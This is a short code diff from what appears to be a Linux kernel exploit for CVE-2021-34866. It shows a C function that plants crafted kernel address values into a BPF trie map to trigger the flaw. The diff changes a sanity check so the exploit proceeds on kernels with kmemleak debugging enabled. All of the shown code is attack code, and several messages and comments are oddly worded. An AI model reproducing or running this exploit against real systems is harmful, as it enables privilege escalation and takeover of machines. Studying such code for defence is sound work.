@@ -122,7 +122,9 @@ static bool cve_2021_34866(struct attempt *a)
 	u64 was = prey("reached"), reach = prey("reach.at"), mask = PAGE - 1;
 	static u8 value[BYTES];
 
-	CHECK(prey("ring.func") == HEAD, "the function of a ring is not where a trie's key is");
+	/* In a debug kernel locks are longer; there no attack is to work. */
+	CHECK(prey("ring.func") == HEAD || !access("/sys/kernel/debug/kmemleak", F_OK),
+	      "the function of a ring is not where a trie's key is");
 	memcpy(key.data, &reach, 8);
 	memcpy(value + MASK - HEAD - 8, &mask, 8);
 	CHECK(trie >= 0 && !bpf_map_update_elem(trie, &key, value, BPF_ANY), "there is no trie");
